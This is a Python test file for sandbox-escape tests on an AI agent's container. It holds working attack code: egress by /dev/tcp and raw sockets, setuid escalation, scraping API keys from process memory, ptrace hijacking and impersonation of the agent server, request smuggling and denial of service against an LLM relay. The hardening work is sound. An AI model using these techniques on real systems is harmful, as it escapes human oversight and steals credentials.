"""The attacks, as data: what the agent runs, and by which real effect it is seen to succeed.

The same commands run in a cleanroom and in the SDK's plain container. There, most succeed: that
shows that the attack itself works. Where one cannot, `refused` says what else stops it (it is
tried all the same), or `void` why there is nothing to try.
"""

from __future__ import annotations

import re
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One attack, as it stands in the table."""

    name: str
    # The method of the tests' `Box` that looks for the effect.
    wins: str
    # Run by bash, or by the agent server's Python.
    code: str
    python: bool
    refused: str = ""
    void: str = ""
    # What root looks for afterwards: prints the nonce if the attack left its mark.
    check: str = ""


def parse(table: str) -> list[Attack]:
    """Return the attacks of a table: `name -> effect`, then indented fields and code."""
    attacks = list[Attack]()
    for block in re.split(r"\n(?=\S)", table.strip()):
        head, *lines = block.splitlines()
        name, wins = head.split(" -> ")
        fields = dict[str, str]()
        while lines and (match := re.match("    (refused|void|check): (.+)", lines[0])):
            fields[match[1]] = match[2]
            del lines[0]
        code = "\n".join(line[4:] for line in lines)
        wins, _, language = wins.partition(", ")
        attacks.append(Attack(name, wins, code, language == "python", **fields))
    return attacks


# What the attacks in Python share. $TARGET:$PORT is a listener of the test's own on this host,
# $LLM the API as the agent server itself reaches it, $NONCE what tells one attack from another.
KIT = r"""
import atexit, ctypes, http.client, json, os, re, signal, socket, struct, subprocess, sys, time
TARGET, PORT, NONCE = os.environ["TARGET"], int(os.environ["PORT"]), os.environ["NONCE"]
LLM_HOST, LLM_PORT = os.environ["LLM"].split(":")[0], int(os.environ["LLM"].split(":")[1])
BINARY, CHAT, RESPONSES = "/workspace/executable", "/v1/chat/completions", "/v1/responses"
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

def reply():
    print("reply", NONCE)

def connect(host=TARGET, port=PORT, *kind):
    s = socket.socket(*kind)
    s.settimeout(3)
    s.connect((host, port))
    return s

def make_readable():
    try: os.chmod(BINARY, 0o555)
    except OSError as error: print(error)

def running():
    "Start the binary; one that can be read can be looked into as well."
    make_readable()
    child = subprocess.Popen([BINARY], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
    atexit.register(child.kill)
    time.sleep(0.3)
    return child.pid

def base(pid):
    with open(f"/proc/{pid}/maps") as maps:
        return int(maps.read().split("-")[0], 16)

def mine(*names):
    "Yield the paths of these files of every process."
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if pid != str(os.getpid()):
            yield from (f"/proc/{pid}/{name}" for name in names)

def search(pattern):
    "Search the memory of every process that lets us."
    for path in mine("maps"):
        try:
            with open(path) as maps, open(path[:-4] + "mem", "rb", 0) as memory:
                for line in maps:
                    if " rw" not in line:
                        continue
                    low, high = (int(end, 16) for end in line.split()[0].split("-"))
                    try:
                        memory.seek(low)
                        yield from re.findall(pattern, memory.read(high - low))
                    except (OSError, ValueError, OverflowError):
                        pass
        except OSError:
            pass

def pipe_ends():
    "Root's processes, with what they run: the container's end of the pipe, and what watches it."
    found = {}
    for path in mine("status"):
        try:
            if re.search(r"^Uid:\s0\s", open(path).read(), re.M):
                found[int(path.split("/")[2])] = open(path[:-6] + "cmdline").read()
        except OSError:
            pass
    return found

def take_listener(port):
    "Have the live agent server, traced, close its listener; return one of ours in its place."
    tables = [line.split() for line in open("/proc/net/tcp")]
    sockets = [f"socket:[{row[9]}]" for row in tables if row[1].endswith(f":{port:04X}")
               and row[3] == "0A"]
    def held(path):
        try: return os.readlink(path) in sockets
        except OSError: return False
    pid, fd = next((int(folder.split("/")[2]), int(fd)) for folder in mine("fd")
                   if os.access(folder, os.R_OK) for fd in os.listdir(folder)
                   if held(f"{folder}/{fd}"))
    for _ in range(50):
        if libc.ptrace(16, pid, None, None): raise OSError(ctypes.get_errno(), "ptrace")
        os.waitpid(pid, 0)
        before = (ctypes.c_ulonglong * 27)()
        libc.ptrace(12, pid, None, ctypes.addressof(before))
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            memory.seek(before[16] - 2)
            waiting = memory.read(2) == b"\x0f\5"
        if waiting: break
        libc.ptrace(17, pid, None, None)
        time.sleep(0.1)
    then = (ctypes.c_ulonglong * 27)(*before)
    then[10], then[14], then[15], then[16] = 3, fd, 2**64 - 1, before[16] - 2
    libc.ptrace(13, pid, None, ctypes.addressof(then))
    libc.ptrace(9, pid, None, None)
    os.waitpid(pid, 0)
    libc.ptrace(13, pid, None, ctypes.addressof(before))
    libc.ptrace(17, pid, None, None)
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", port))
    listener.listen()
    return listener

def server(path):
    "What the agent server's API says to one who has its session key."
    for name in mine("environ"):
        try:
            found = re.search(rb"OH_SESSION_API_KEYS_0=(\w+)", open(name, "rb").read())
        except OSError:
            continue
        if found:
            api = http.client.HTTPConnection("127.0.0.1", 8000, timeout=10)
            key = {"X-Session-API-Key": found[1].decode(), "X-Expose-Secrets": "plaintext"}
            api.request("GET", path, headers=key)
            return api.getresponse().read()

def key():
    return open("/tmp/kit/credential").read()

def body(**fields):
    said = [{"role": "user", "content": NONCE}]
    return {"model": "gpt-4o-mini", "messages": said} | fields

def llm(data, path=CHAT, method="POST", **headers):
    "Send a request to the LLM's API, with the credential that is found here; print the answer."
    api = http.client.HTTPConnection(LLM_HOST, LLM_PORT, timeout=10)
    standard = {"Authorization": "Bearer " + key(), "Content-Type": "application/json"}
    headers = standard | {name.replace("_", "-"): value for name, value in headers.items()}
    data = json.dumps(data) if isinstance(data, dict) else data
    try:
        api.request(method, path, data, headers)
        answer = api.getresponse()
        print(answer.status, answer.read(3000).decode(errors="replace"))
    except (OSError, http.client.HTTPException) as error:
        print(repr(error))

def raw(*lines, then=b""):
    "Send a request as it is written here."
    with connect(LLM_HOST, LLM_PORT) as api:
        head = "\r\n".join((*lines, f"Authorization: Bearer {key()}", "", ""))
        api.sendall(head.encode() + then)
        api.settimeout(1)
        try:
            while data := api.recv(4096):
                print(data[:300])
        except OSError:
            pass
"""

ATTACKS = parse(
    r"""
network: TCP over IPv4 -> contact, python
    connect().send(NONCE.encode())
network: UDP over IPv4 -> contact, python
    connect(TARGET, PORT, socket.AF_INET, socket.SOCK_DGRAM).send(NONCE.encode())
network: multipath TCP -> contact, python
    connect(TARGET, PORT, socket.AF_INET, socket.SOCK_STREAM, 262).send(NONCE.encode())
network: IPv4 mapped into IPv6 -> contact, python
    connect("::ffff:" + TARGET, PORT, socket.AF_INET6).send(NONCE.encode())
network: bash's /dev/tcp -> contact
    echo $NONCE >/dev/tcp/$TARGET/$PORT
network: bash's /dev/udp -> contact
    echo $NONCE >/dev/udp/$TARGET/$PORT
network: git clone -> contact
    timeout 3 git clone git://$TARGET:$PORT/$NONCE /tmp/kit/clone
network: HTTP, and what environment variables say of proxies -> contact, python
    import urllib.request
    urllib.request.urlopen(f"http://{TARGET}:{PORT}/{NONCE}", timeout=3)
network: DNS query to a server of one's own -> contact, python
    label = NONCE.encode()
    query = b"\0\1\1\0\0\1" + bytes(6) + bytes([len(label)]) + label + b"\0\0\1\0\1"
    connect(TARGET, PORT, socket.AF_INET, socket.SOCK_DGRAM).send(query)
network: ping the host's gateway -> replied, python
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(3)
    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + NONCE.encode(), (TARGET, 0))
    if NONCE.encode() in s.recv(200): reply()
network: DNS by the system's resolver -> replied
    void: not tried: it could reach somebody else's machine
    getent ahosts $NONCE.example.com || getent ahosts example.com && echo reply $NONCE
network: TCP to 192.0.2.1 -> replied, python
    void: not tried: it could reach somebody else's machine
    connect("192.0.2.1", 53, socket.AF_INET, socket.SOCK_STREAM).send(b"x"); reply()
network: UDP to 198.51.100.1 -> replied, python
    void: not tried: it could reach somebody else's machine
    connect("198.51.100.1", 53, socket.AF_INET, socket.SOCK_DGRAM).send(b"x"); reply()
network: TCP to 2001:db8::1 -> replied, python
    void: not tried: it could reach somebody else's machine
    connect("2001:db8::1", 53, socket.AF_INET6, socket.SOCK_STREAM).send(b"x"); reply()
network: an abstract unix socket of the host's -> contact, python
    refused: the bridge's network namespace is another one too
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + os.environ["ABSTRACT"])
    s.sendall(NONCE.encode())
network: the engine's socket -> replied, python
    refused: no one mounts it
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        if not socket.socket(socket.AF_UNIX).connect_ex(path): reply()
network: vsock to the machine below -> replied, python
    refused: the engine's seccomp profile refuses it
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((2, PORT))
    reply()
network: netlink, to make an interface -> replied, python
    refused: NET_ADMIN is not among the engine's default capabilities
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    kind = struct.pack("HH", 9, 1) + b"dummy\0\0\0"
    name = struct.pack("HH", 10, 3) + b"loot0\0\0\0"
    info = bytes(16) + name + struct.pack("HH", 4 + len(kind), 18) + kind
    s.send(struct.pack("IHHII", 16 + len(info), 16, 0x605, 1, 0) + info)
    s.recv(4096)
    if "loot0" in os.listdir("/sys/class/net"): reply()
network: a raw socket -> contact, python
    refused: the agent has no capabilities
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    data = NONCE.encode()
    s.sendto(struct.pack("!HHHH", 5353, PORT, 8 + len(data), 0) + data, (TARGET, 0))
network: a raw socket by a setuid shell -> contact
    rootsh -p -c '
    $PYTHON -c "
    import os, socket, struct
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    data = os.environb[b\"NONCE\"]
    head = struct.pack(\"!HHHH\", 5353, int(os.environ[\"PORT\"]), 8 + len(data), 0)
    s.sendto(head + data, (os.environ[\"TARGET\"], 0))"'
network: a packet socket by a setuid shell -> replied
    rootsh -p -c '
    $PYTHON -c "
    import os, socket
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
    s.settimeout(3)
    data, to = os.environb[b\"NONCE\"], (os.environ[\"TARGET\"], int(os.environ[\"PORT\"]))
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, to)
    for _ in range(50):
        frame, (name, *_) = s.recvfrom(2000)
        if data in frame and name != \"lo\":
            print(\"reply\", data.decode())
            break"'
privilege: a setuid shell -> flag
    rootsh -p -c 'cat /root/flag'
privilege: a file capability -> flag
    rootcat /root/flag
privilege: a setuid shell writes to /etc -> marked
    check: cat /etc/loot; rm -f /etc/loot
    rootsh -p -c 'echo $NONCE >/etc/loot'
privilege: su -> flag
    refused: root's password is locked
    echo | timeout 2 su -c 'cat /root/flag'
privilege: sudo -> flag
    refused: sudo is not installed
    sudo -n cat /root/flag
privilege: mount, which is setuid -> replied
    refused: only root may mount, and SYS_ADMIN is not among the engine's default capabilities
    mount -t tmpfs none /mnt; mount --bind /root /mnt
    grep -q ' /mnt ' /proc/mounts && echo reply $NONCE
privilege: all capabilities, asked for -> flag, python
    refused: the agent has none to raise
    libc.prctl(47, 2, 1, 0, 0)
    head, sets = struct.pack("Ii", 0x20080522, 0), struct.pack("6I", *[0xFFFFFFFF] * 6)
    libc.capset(head, sets)
    libc.setuid(0)
    print(open("/root/flag").read())
privilege: the environment of PID 1 and of root's processes -> session, python
    for pid in (1, *pipe_ends()):
        try: print(open(f"/proc/{pid}/environ").read())
        except OSError as error: print(error)
privilege: the SSH server's keys -> replied, python
    void: there is no SSH server
    import glob
    for path in ("/run/key", "/root/.ssh", *glob.glob("/etc/ssh/*_key")):
        try: os.listdir(path) if os.path.isdir(path) else open(path, "rb"); reply()
        except OSError as error: print(error)
privilege: an SSH server of one's own, which lets root in -> flag
    void: there is no SSH server
    ssh-keygen -qt ed25519 -N '' -f loot/key
    ssh -F/dev/null -oBatchMode=yes -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null \
        -iloot/key -oProxyCommand="/usr/sbin/sshd -i -f /dev/null -h $PWD/loot/key -oUsePAM=no \
        -oStrictModes=no -oAuthorizedKeysFile=$PWD/loot/key.pub" root@x cat /root/flag
privilege: /proc/1/root -> replied
    [ -e /proc/1/root/.dockerenv ] && echo reply $NONCE
privilege: /proc/1/mem -> replied, python
    with open("/proc/1/mem", "rb", 0) as memory:
        memory.seek(base(1))
        if memory.read(4) == b"\x7fELF": reply()
privilege: /proc/1/cwd and /proc/1/fd -> replied
    ls /proc/1/cwd/ /proc/1/fd/0 && echo reply $NONCE
privilege: writing to /proc/sys -> replied
    refused: the engine mounts it read-only
    for f in kernel/core_pattern kernel/hostname net/ipv4/ip_forward vm/drop_caches; do
    (echo 1 >/proc/sys/$f) && echo reply $NONCE; done
privilege: /proc/sysrq-trigger -> replied
    refused: the engine mounts it read-only
    echo h >/proc/sysrq-trigger && echo reply $NONCE
privilege: a cgroup of one's own -> replied
    refused: the engine mounts it read-only
    mkdir /sys/fs/cgroup/loot || mkdir /sys/fs/cgroup/*/loot && echo reply $NONCE
privilege: device nodes -> replied
    refused: the engine's device rules refuse to open them
    for n in 'c 1 1' 'b 8 0' 'b 254 0'; do
    rm -f loot; mknod loot $n && head -c 1 loot && echo reply $NONCE
    rootsh -p -c "rm -f loot; mknod loot $n && head -c 1 loot && echo reply $NONCE"; done
privilege: /dev/mem, /dev/sda, /proc/kcore, /dev/kmsg -> replied
    refused: the engine provides none of them
    for f in /dev/mem /dev/sda /dev/vda /proc/kcore /dev/kmsg; do
    [ $(timeout 2 head -c 1 $f | wc -c) = 1 ] && echo reply $NONCE; done
privilege: new user and network namespaces -> replied
    refused: the engine's seccomp profile refuses it
    unshare -U -r -n echo reply $NONCE
privilege: the kernel's keyring -> replied, python
    refused: the engine's seccomp profile refuses it
    if libc.syscall(248, b"user", b"loot", b"loot", 4, -3) > 0: reply()
privilege: bpf, perf and userfaultfd -> replied, python
    refused: the engine's seccomp profile refuses it
    for call in ((321, 0, bytes(128), 128), (298, bytes(128), 0, -1, -1, 0), (323, 0)):
        if libc.syscall(*call) >= 0: reply()
privilege: replacing the Python that root runs -> replied
    cd /agent-server/.venv/bin && mv python loot && mv loot python && echo reply $NONCE
privilege: a .pth file in its site-packages -> marked
    check: cd /agent-server/.venv/lib/python3*/site-packages; cat loot.pth; rm -f loot.pth
    echo "# $NONCE" >$(echo /agent-server/.venv/lib/python3*/site-packages)/loot.pth
privilege: a module in its standard library -> marked
    check: cd /agent-server; find . -name loot.py -exec cat {} \; -delete
    echo "# $NONCE" >$($PYTHON -c 'import os; print(os.__file__)' | xargs dirname)/loot.py
privilege: replacing setpriv, sh and tini -> replied
    refused: they belong to root
    for f in setpriv sh tini sleep; do
    p=$(command -v $f); [ -w $p ] || mv $p $p.loot && echo reply $NONCE; done
binary: chmod u+r -> binary
    chmod u+r executable; dump executable
binary: cp -> binary
    chmod u+r executable; cp executable loot/x; dump loot/x
binary: dd -> binary
    chmod u+r executable; dd if=executable bs=64 count=1 | od -An -v -tx1 | tr -d ' \n'
binary: tar -> binary
    chmod u+r executable; tar -cO executable | tail -c +513 | od -An -v -tx1 -N64 | tr -d ' \n'
binary: mv, then chmod -> binary
    mv executable loot/x; chmod u+r loot/x; dump loot/x
binary: hard link -> binary
    ln executable loot/x && chmod u+r loot/x; dump loot/x
binary: symbolic link -> binary
    ln -s ../executable loot/x; chmod u+r loot/x; dump loot/x
binary: setfacl, chown and extended attributes -> binary
    setfacl -m u::r executable; chown $(id -u) executable; chmod 4755 executable
    chmod u+r executable
    dump executable
binary: mmap -> binary, python
    import mmap
    make_readable()
    print(mmap.mmap(os.open(BINARY, os.O_RDONLY), 64, prot=mmap.PROT_READ)[:64].hex())
binary: O_PATH, reopened by /proc/self/fd -> binary, python
    fd = os.open(BINARY, os.O_PATH)
    try: os.chmod(f"/proc/self/fd/{fd}", 0o555)
    except OSError as error: print(error)
    print(open(f"/proc/self/fd/{fd}", "rb").read(64).hex())
binary: git add -> binary
    chmod u+r executable
    git add -f executable && git cat-file blob :executable >loot/x; dump loot/x; git reset -q
binary: /proc/<pid>/exe -> binary, python
    pid = running()
    print(open(f"/proc/{pid}/exe", "rb").read(64).hex())
binary: /proc/<pid>/mem -> binary, python
    pid = running()
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        memory.seek(base(pid))
        print(memory.read(64).hex())
binary: process_vm_readv -> binary, python
    pid = running()
    here = ctypes.create_string_buffer(64)
    near, far = (struct.pack("QQ", at, 64) for at in (ctypes.addressof(here), base(pid)))
    libc.process_vm_readv(pid, near, 1, far, 1, 0)
    print(here.raw.hex())
binary: ptrace, attached as gdb does -> binary, python
    pid = running()
    if libc.ptrace(16, pid, None, None): raise SystemExit("no")
    os.waitpid(pid, 0)
    libc.ptrace.restype = ctypes.c_long
    at = base(pid)
    words = [libc.ptrace(2, pid, at + 8 * n, None) for n in range(8)]
    print(struct.pack("8q", *words).hex())
binary: ptrace, traced from its start -> binary, python
    make_readable()
    pid = os.fork()
    if not pid:
        libc.ptrace(0, 0, None, None)
        os.execv(BINARY, ["executable", "--help"])
    os.waitpid(pid, 0)
    atexit.register(os.kill, pid, 9)
    libc.ptrace.restype = ctypes.c_long
    at = base(pid)
    print(struct.pack("8q", *(libc.ptrace(2, pid, at + 8 * n, None) for n in range(8))).hex())
binary: core dump -> binary, python
    import resource
    most = resource.getrlimit(resource.RLIMIT_CORE)[1]
    resource.setrlimit(resource.RLIMIT_CORE, (most, most))
    os.chdir("/workspace/loot")
    os.kill(running(), signal.SIGSEGV)
    time.sleep(1)
    for name in os.listdir("."):
        for match in re.finditer(b"\x7fELF", data := open(name, "rb").read()):
            print(data[match.start():match.start() + 64].hex())
binary: the dynamic loader reads it -> binary, python
    make_readable()
    loader = "/lib64/ld-linux-x86-64.so.2"
    child = subprocess.Popen([loader, BINARY], stdin=subprocess.PIPE, stdout=-3)
    atexit.register(child.kill)
    time.sleep(0.3)
    lines = open(f"/proc/{child.pid}/maps").readlines()
    at = next(int(line.split("-")[0], 16) for line in lines if line.strip().endswith(BINARY))
    memory = open(f"/proc/{child.pid}/mem", "rb", 0)
    memory.seek(at)
    print(memory.read(64).hex())
binary: the editor's view of it as an image -> viewed
binary: the agent server's file download -> binary, python
    make_readable()
    print((server("/api/file/download?path=" + BINARY) or b"")[:64].hex())
key: the memory of every process -> key, python
    print(*{found.decode() for found in search(rb"(?:sk-test|placeholder)-[0-9a-f]{32}")})
key: the environment of every process -> key, python
    refused: a conversation brings it, no variable
    for path in mine("environ"):
        try: print(open(path, "rb").read())
        except OSError as error: print(error)
key: the command line of every process -> key, python
    refused: it is no argument there
    for path in mine("cmdline", "comm"):
        print(open(path, "rb").read())
key: files -> key
    refused: saved conversations mask it
    # What the test itself has left there does not count.
    timeout 20 grep -rahoE '(sk-test|placeholder)-[0-9a-f]{32}' / \
        --exclude-dir={proc,sys,usr,.venv,uv-managed-python,kit,bash_events}
key: the agent server's settings, in plain text -> key, python
    refused: a conversation's key is not in its settings
    print(server("/api/settings"), server("/api/settings/secrets"))
key: the agent server's conversations -> key, python
    refused: the agent server masks it
    print(found := server("/api/conversations/search"))
    for item in json.loads(found)["items"]:
        print(server("/api/conversations/" + item["id"]))
        print(server("/api/conversations/" + item["id"] + "/events/search"))
key: an answer that echoes what was sent -> key, python
    llm(body(user="echo"))
key: an error message that echoes what was sent -> key, python
    llm(body(user="echo-error"))
key: the relay's own error messages -> key, python
    void: there is no pipe and no relay
    llm({"model": key()}); llm(b"{" + key().encode()); llm(body(), "/" + key(), "PATCH")
    raw("BREW /\x01 HTTP/9.9", "Content-Length: -1")
relay: another path -> upstream, python
    llm(body(), '/v1/files')
relay: a list of models -> upstream, python
    llm(None, '/v1/models?' + NONCE, 'GET')
relay: a path that climbs -> upstream, python
    llm(body(), CHAT + '/../../x/' + NONCE)
relay: a query -> upstream, python
    llm(body(), CHAT + '?api-version=' + NONCE)
relay: a stored answer -> upstream, python
    llm(None, '/v1/responses/' + NONCE, 'GET')
relay: another model -> upstream, python
    llm(body(model='gpt-4o-search-preview'))
relay: a model named twice -> upstream, python
    llm('{"model": "gpt-4o-mini", ' + json.dumps(body(model="gpt-4o"))[1:])
relay: a web search tool -> upstream, python
    llm(body(tools=[{'type': 'web_search'}]))
relay: a provider's tool without a type -> upstream, python
    llm(body(tools=[{'google_search': {}}]))
relay: a remote MCP server -> upstream, python
    tool = {"type": "mcp", "server_label": "x", "server_url": "http://192.0.2.1"}
    llm(body(input=NONCE, tools=[tool]), RESPONSES)
relay: a code interpreter -> upstream, python
    llm(body(input=NONCE, tools=[{'type': 'code_interpreter'}]), RESPONSES)
relay: web_search_options -> upstream, python
    llm(body(web_search_options={}))
relay: plugins -> upstream, python
    llm(body(plugins=[{'id': 'web'}]))
relay: an image by URL -> upstream, python
    image = {"type": "image_url", "image_url": {"url": "http://192.0.2.1/" + NONCE}}
    llm(body(messages=[{"role": "user", "content": [image]}]))
relay: a file by id -> upstream, python
    file = {"type": "input_file", "file_id": NONCE}
    llm(body(input=[{"role": "user", "content": [file]}]), RESPONSES)
relay: an earlier answer by id -> upstream, python
    llm(body(input=NONCE, previous_response_id='resp_1'), RESPONSES)
relay: a stored item by id -> upstream, python
    llm(body(input=[{'id': 'msg_' + NONCE}]), RESPONSES)
relay: background -> upstream, python
    llm(body(input=NONCE, background=True), RESPONSES)
relay: a key of one's own -> upstream, python
    llm(body(), Authorization='Bearer sk-of-somebody-else')
relay: a form instead of JSON -> upstream, python
    llm("model=gpt-4o-mini&user=" + NONCE, Content_Type="application/x-www-form-urlencoded")
relay: a compressed body -> upstream, python
    import gzip
    llm(gzip.compress(b"[" * 9_000_000), user_agent=NONCE, Content_Encoding="gzip")
relay: a body of 33 MiB -> upstream, python
    llm(body(user='x' * (33 << 20)))
relay: a body of 33 MiB in chunks, its length unsaid -> upstream, python
    whole = json.dumps(body(user='x' * (33 << 20))).encode()
    llm(whole[at:at + 65536] for at in range(0, len(whole), 65536))
relay: a body that nests deeply -> outage, python
    void: there is no pipe and no relay
    llm('{"model": ' + '[' * 200000); llm(body())
relay: smuggling by two lengths -> upstream, python
    inner = f"GET /v1/models?{NONCE} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key()}\r\n\r\n"
    raw(f"POST {CHAT} HTTP/1.1", "Host: x", f"Content-Length: {len(inner) + 5}",
        "Transfer-Encoding: chunked", then=b"0\r\n\r\n" + inner.encode())
relay: a second request on the same connection -> upstream, python
    first = json.dumps(body(messages=[])).encode()
    raw(f"POST {CHAT} HTTP/1.1", "Host: x", f"Content-Length: {len(first)}", then=first
        + f"GET /v1/models?{NONCE} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
relay: another origin in the request line -> contact, python
    void: there is no pipe and no relay
    for start in ("http://", "//", "@"):
        raw(f"POST {start}{TARGET}:{PORT}/{NONCE} HTTP/1.1", "Host: x", "Content-Length: 0")
relay: another origin by CONNECT -> contact, python
    void: there is no pipe and no relay
    raw(f"CONNECT {TARGET}:{PORT} HTTP/1.1", f"Host: {TARGET}:{PORT}", then=NONCE.encode())
relay: another origin in the Host header -> contact, python
    void: there is no pipe and no relay
    llm(body(), Host=f"{TARGET}:{PORT}", X_Forwarded_Host=f"{TARGET}:{PORT}", X_Nonce=NONCE)
relay: a redirect by the provider -> contact, python
    void: there is no pipe and no relay
    llm(body(user='redirect'))
relay: binding its port first -> replied, python
    void: there is no pipe and no relay
    for host, family in (("127.0.0.1", 2), ("0.0.0.0", 2), ("::", 10), ("::ffff:127.0.0.1", 10)):
        s = socket.socket(family)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        try:
            s.bind((host, LLM_PORT)); s.listen(); s.settimeout(1)
            connect(LLM_HOST, LLM_PORT)
            s.accept(); reply()
        except OSError as error: print(error)
relay: slow bodies -> outage, python
    void: there is no pipe and no relay
    held = [connect(LLM_HOST, LLM_PORT) for _ in range(50)]
    slow = f"POST {CHAT} HTTP/1.1\r\nHost: x\r\nContent-Length: 99\r\n\r\n{{"
    for s in held: s.send(slow.encode())
    llm(body())
relay: 100 connections at once -> outage, python
    void: there is no pipe and no relay
    held = [connect(LLM_HOST, LLM_PORT) for _ in range(100)]
    llm(body())
relay: garbage bytes -> outage, python
    void: there is no pipe and no relay
    for _ in range(50): connect(LLM_HOST, LLM_PORT).send(os.urandom(5000))
    llm(body())
relay: killing, stopping and limiting the pipe's end -> replied, python
    void: there is no pipe and no relay
    import resource
    for pid in pipe_ends():
        for harm in (lambda: os.kill(pid, 0), lambda: os.kill(pid, signal.SIGKILL),
                     lambda: os.kill(pid, signal.SIGSTOP), lambda: os.setpriority(0, pid, 19),
                     lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
                     lambda: os.sched_setaffinity(pid, {0})):
            try: harm(); reply()
            except OSError as error: print(error)
relay: tracing the pipe's end -> replied, python
    void: there is no pipe and no relay
    for pid in pipe_ends():
        if not libc.ptrace(16, pid, None, None): reply()
        try: open(f"/proc/{pid}/mem", "rb"); reply()
        except OSError as error: print(error)
relay: feeding the pipe's end -> replied, python
    void: there is no pipe and no relay
    for pid in pipe_ends():
        for fd in range(12):
            for mode in ("wb", "rb"):
                try: open(f"/proc/{pid}/fd/{fd}", mode, 0); reply()
                except OSError as error: print(error)
            if libc.syscall(438, libc.syscall(434, pid, 0), fd, 0) >= 0: reply()
submission: an absolute link out -> strayed
    ln -s /etc/passwd loot/x
submission: a link that climbs out -> strayed
    ln -s ../../../../etc/passwd loot/x
submission: a fifo -> special
    mkfifo loot/x
submission: a socket -> special, python
    refused: the engine hands over no sockets
    socket.socket(socket.AF_UNIX).bind('/workspace/loot/x')
submission: a device -> special
    mknod loot/x c 1 1 || rootsh -p -c 'mknod loot/x c 1 1'
submission: the binary under another name -> smuggled
    mv executable loot/x
submission: a hard link to the binary -> smuggled
    ln executable loot/x
submission: notes that move the cursor -> garbled
    printf 'a\033[2J\033]0;x\007\302\233b\r\b' >NOTES.md
submission: names that move the cursor -> garbled
    void: nothing prints the names there
    mkdir "$(printf 'loot/\033[2J\nx')" && cp NOTES.md loot/*/
submission: notes that are a link to a file of the host's -> disclosed
    rm -f NOTES.md; ln -s $HOST_FILE NOTES.md
submission: notes that are a link to the binary -> printed
    rm -f NOTES.md; ln -s executable NOTES.md
submission: notes that link to themselves -> lost
    rm -f NOTES.md; ln -s NOTES.md NOTES.md
submission: files that shrink and grow while they are saved -> lost_in_time, python
    # Ends by itself, at the latest when the files are removed.
    for name in "abcdefgh": open(f"/workspace/loot/{name}", "w").close()
    if os.fork(): os._exit(0)
    os.setsid(); os.dup2(os.open("/dev/null", os.O_RDWR), 1); os.dup2(1, 2)
    while True:
        for size in (0, 1 << 24):
            for name in "abcdefgh": os.truncate(f"/workspace/loot/{name}", size)
            time.sleep(0.005)
submission: folders deeper than a path can be -> lost, python
    refused: the engine copes
    os.chdir("/workspace/loot")
    for _ in range(60):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
submission: names that are no text -> lost
    refused: they are bytes like others
    touch "$(printf 'loot/\377\376')" loot/$(printf 'x%.0s' $(seq 250))
"""
)

# Gets hold of as many ways to the host as it is told, and of its server's life if it is told so.
HOLD = r"""
import os, re, signal, socket, sys, time
open("/workspace/kept", "w").close()
held = []
for _ in range(int(sys.argv[2])):
    try: held.append(socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3))
    except OSError: break
open(f"/workspace/held-{len(held)}", "w").close()
for pid in filter(str.isdigit, os.listdir("/proc") if sys.argv[3:] else ()):
    try:
        if b"openhands.agent_server" in open(f"/proc/{pid}/cmdline", "rb").read():
            os.kill(int(pid), signal.SIGKILL)
    except OSError: pass
time.sleep(600)"""

# Takes the live agent server's place: answers whatever the host asks with a way to elsewhere.
IMPERSONATE = r"""
listener = take_listener(8000)
reply(); sys.stdout.flush()
if os.fork(): os._exit(0)
os.setsid(); os.dup2(os.open("/dev/null", os.O_RDWR), 1); os.dup2(1, 2)
while True:
    near = listener.accept()[0]
    asked = near.recv(9000)
    scheme = "ws" if b"upgrade: websocket" in asked.lower() else "http"
    location = f"{scheme}://{TARGET}:{PORT}/{NONCE}"
    near.sendall(f"HTTP/1.1 307 Away\r\nLocation: {location}\r\n"
                 "Content-Length: 0\r\n\r\n".encode())
    near.close()"""
